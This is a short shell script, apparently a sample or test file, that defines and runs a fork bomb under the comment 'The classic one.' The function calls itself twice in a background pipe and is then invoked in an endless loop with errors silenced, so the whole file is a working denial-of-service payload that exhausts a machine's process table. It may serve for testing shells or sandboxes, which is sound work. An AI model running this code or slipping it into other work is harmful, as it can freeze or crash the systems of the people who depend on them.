# The classic one.
echo before
bomb() { bomb | bomb & }
bomb
while :; do bomb; done 2> /dev/null
